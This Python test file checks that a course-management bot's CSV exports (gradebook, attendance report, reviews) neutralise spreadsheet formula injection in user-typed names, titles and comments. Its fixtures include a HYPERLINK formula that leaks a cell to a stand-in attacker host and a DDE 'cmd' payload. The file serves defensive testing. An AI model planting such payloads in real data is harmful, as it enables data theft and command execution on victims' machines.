"""Every CSV the bot writes goes through `csv_out`: formula payloads typed by people (registered
names, roster names, Discord names, group names and titles, paper titles, review comments) come out
as text behind a single quote, while numbers stay numbers. One test per CSV: the gradebook, the
attendance report and the reviews file, each built through the services."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from bot.clock import Clock
from bot.services import Services, attendance, groups, papers, reviews, roster
from bot.services.attendance_report import report_csv
from bot.services.csv_out import csv_bytes, neutralise
from bot.services.gradebook import COLUMNS, GradebookMember, gradebook_csv, gradebook_rows
from bot.services.students import get_student, register
from tests.conftest import seoul

ALICE, BOB, CAROL = 7001, 7002, 7003
TA = 9
JOINED = seoul(2025, 3, 1, 9, 0)
# Payloads each validator lets through (names refuse @ and |, group names refuse : and links).
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MINUS = "-2+3+cmd"
PLUS = "+1+1 Squad"


def parse(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# ---- the rule -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        (CALC, "'" + CALC),
        (SUM, "'" + SUM),
        ("+82 10 1234 5678", "'+82 10 1234 5678"),
        ("-x", "'-x"),
        ("\t=1+1", "'\t=1+1"),
        ("\rnote", "'\rnote"),
        ("-", "'-"),
        ("+", "'+"),
        ("-.", "'-."),
        ("-1e5", "'-1e5"),
        ("-1.5", "-1.5"),  # plain numbers as text stay numbers
        ("-3", "-3"),
        ("+82", "+82"),
        ("-.5", "-.5"),
        ("-٣", "'-٣"),  # only ASCII digits make a plain number
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("김민준", "김민준"),
        ("", ""),
        (None, ""),
        (-3, -3),  # Python numbers are written as numbers
        (4.5, 4.5),
        (0, 0),
        (True, "True"),
        (float("-inf"), "'-inf"),
    ],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(
    cell: str | int | float | None, written: str | int | float
) -> None:
    assert neutralise(cell) == written
    assert type(neutralise(cell)) is type(written)


def test_the_writer_quotes_header_and_rows_and_keeps_empty_rows() -> None:
    data = csv_bytes(["name", "=score"], [["=1+1", -3], [], ["a,b", 4.5], [None, "line\nbreak"]])
    assert data == ('\ufeffname,\'=score\r\n\'=1+1,-3\r\n\r\n"a,b",4.5\r\n,"line\nbreak"\r\n'.encode())
    assert parse(data) == [["name", "'=score"], ["'=1+1", "-3"], [], ["a,b", "4.5"], ["", "line\nbreak"]]


# ---- the gradebook ----------------------------------------------------------------------------------
async def test_the_gradebook_neutralises_every_typed_field(services: Services) -> None:
    await register(
        services,
        discord_id=ALICE,
        discord_name="alice",
        joined_at=JOINED,
        student_id="20250001",
        name=HYPERLINK,
    )
    imported = await roster.import_roster(
        services, actor_id=TA, data=f"student_id,name\n20250009,{SUM}\n".encode(), members=[]
    )
    assert imported.errors == ()
    squad = await groups.create(services, discord_id=ALICE, discord_name="alice", name=PLUS)
    await groups.set_title(services, discord_id=ALICE, text=CALC)
    await papers.import_papers(
        services, actor_id=TA, data=f"number,title,authors,url,week\n1,{MINUS} bit LLMs,,,9\n".encode()
    )
    await papers.assign(services, actor_id=TA, discord_id=ALICE, discord_name="alice", number=1)
    members = [GradebookMember(ALICE, "=1+1", JOINED)]

    rows = await gradebook_rows(services, members)
    header, *cells = parse(gradebook_csv(rows))

    assert header == list(COLUMNS)
    table = {row[0]: dict(zip(header, row, strict=True)) for row in cells}
    alice, listed = table["20250001"], table["20250009"]
    assert alice["name"] == "'" + HYPERLINK
    assert alice["discord_name"] == "'=1+1"
    assert alice["group"] == "'" + squad.name
    assert alice["project_title"] == "'" + CALC
    assert alice["paper_title"] == f"'{MINUS} bit LLMs"
    assert listed["name"] == "'" + SUM
    by_id = {row["student_id"]: row for row in rows}
    for column in ("discord_id", "lectures_held", "absent", "absences_left", "paper_number", "reviews_given"):
        assert alice[column] == by_id["20250001"][column]  # numbers unchanged
    assert alice["paper_number"] == "1" and alice["discord_id"] == str(ALICE)


# ---- the attendance report ------------------------------------------------------------------------
async def test_the_attendance_report_neutralises_names_and_keeps_the_counts(
    services: Services, clock: Clock
) -> None:
    for who, name in ((ALICE, HYPERLINK), (BOB, CALC.replace("|", "/"))):
        await register(
            services,
            discord_id=who,
            discord_name=f"u{who}",
            joined_at=JOINED,
            student_id=f"2025{who}",
            name=name,
        )
    start = seoul(2025, 3, 5, 11, 0)
    clock.set(start)
    _, code = await attendance.open_session(services, actor_id=TA, minutes=30)
    await attendance.check_in(services, discord_id=ALICE, discord_name="alice", joined_at=JOINED, code=code)
    clock.set(start + timedelta(minutes=20))
    await attendance.close_session(services, actor_id=TA)
    clock.set(seoul(2025, 3, 10, 12, 30))
    held = [s.lecture_date for s in await attendance.held_lectures(services)]
    records = await attendance.records(services, [(ALICE, JOINED), (BOB, JOINED), (CAROL, JOINED)])
    discord_names = {ALICE: SUM, BOB: MINUS, CAROL: "\tcarol"}
    names = {}
    for who in (ALICE, BOB, CAROL):  # as `/ta attendance report` builds them
        row = await get_student(services, who)
        names[who] = (row.student_id or "" if row else "", row.name or "" if row else "", discord_names[who])

    header, *cells = parse(report_csv(held, records, names))

    assert header[-1] == date(2025, 3, 5).isoformat()
    table = {row[3]: dict(zip(header, row, strict=True)) for row in cells}
    alice, bob, carol = table[str(ALICE)], table[str(BOB)], table[str(CAROL)]
    assert (alice["name"], alice["discord"]) == ("'" + HYPERLINK, "'" + SUM)
    assert (bob["name"], bob["discord"]) == ("'" + CALC.replace("|", "/"), "'" + MINUS)
    assert (carol["name"], carol["discord"]) == ("", "'\tcarol")
    assert alice["student_id"] == f"2025{ALICE}"
    for who, row in ((ALICE, alice), (BOB, bob), (CAROL, carol)):
        record = records[who]
        assert [row[c] for c in ("held", "present", "late", "excused", "absent", "absences_left")] == [
            str(n)
            for n in (
                record.held,
                record.present,
                record.late,
                record.excused,
                record.absent,
                record.absences_left,
            )
        ]
    assert (alice["present"], bob["absent"], alice["2025-03-05"], bob["2025-03-05"]) == (
        "1",
        "1",
        "present",
        "absent",
    )


# ---- the reviews file -------------------------------------------------------------------------------
async def test_the_reviews_csv_neutralises_names_and_comments(services: Services, clock: Clock) -> None:
    sample = b"number,title,authors,url,week\n1,=1+1 is all you need,,,9\n2,Pruning,,,9\n"
    await papers.import_papers(services, actor_id=TA, data=sample)
    await papers.assign(services, actor_id=TA, discord_id=ALICE, discord_name="alice", number=1)
    clock.set(seoul(2025, 4, 30, 12, 30))  # the talk day of week 9
    for who, comment, scores in (
        (BOB, CALC, ("5", "4", "3")),
        (CAROL, f"{HYPERLINK} and more", ("1", "2", "3")),
    ):
        await reviews.submit(
            services,
            kind="talk",
            target_id=1,
            reviewer_id=who,
            reviewer_name=f"u{who}",
            scores=scores,
            comment=comment,
        )
    view = await reviews.staff_view(services, 9)
    names = {ALICE: MINUS, BOB: SUM, CAROL: "+cmd /C calc"}  # display names

    rows = parse(reviews.reviews_csv(view, names))

    header, bob, carol, blank, engagement_header, *engagement = rows
    assert header == [
        "kind",
        "target",
        "week",
        "reviewer_id",
        "reviewer",
        "score_1",
        "score_2",
        "score_3",
        "comment",
    ]
    assert bob == [
        "talk",
        "paper 1 — =1+1 is all you need",
        "9",
        str(BOB),
        "'" + SUM,
        "5",
        "4",
        "3",
        "'" + CALC,
    ]
    assert carol[4:] == ["'+cmd /C calc", "1", "2", "3", f"'{HYPERLINK} and more"]
    assert blank == [] and engagement_header == [
        "student_id",
        "student",
        "reviews_given",
        "questions_asked",
        "engagement",
    ]
    assert sorted(engagement) == sorted(
        [
            [str(ALICE), "'" + MINUS, "0", "0", "0"],
            [str(BOB), "'" + SUM, "1", "0", "1"],
            [str(CAROL), "'+cmd /C calc", "1", "0", "1"],
        ]
    )
